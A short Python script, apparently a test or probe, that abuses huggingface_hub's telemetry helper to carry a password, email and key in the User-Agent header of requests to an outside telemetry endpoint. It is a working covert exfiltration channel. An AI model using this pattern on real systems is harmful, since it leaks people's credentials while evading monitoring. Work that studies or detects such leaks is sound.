"""huggingface_hub: HEAD without a body; everything is in User-Agent."""

import json
import os

from huggingface_hub.utils import _telemetry

sent = json.loads(os.environ["SENT"])
for number in range(3):
    _telemetry.send_telemetry(
        f"acme/event-{number}",
        library_name="acme",
        library_version=sent["version"],
        user_agent={
            "password": sent["password"],
            "email": sent["email"],
            "note": sent["key"],
        },
    )
_telemetry._TELEMETRY_QUEUE.join()
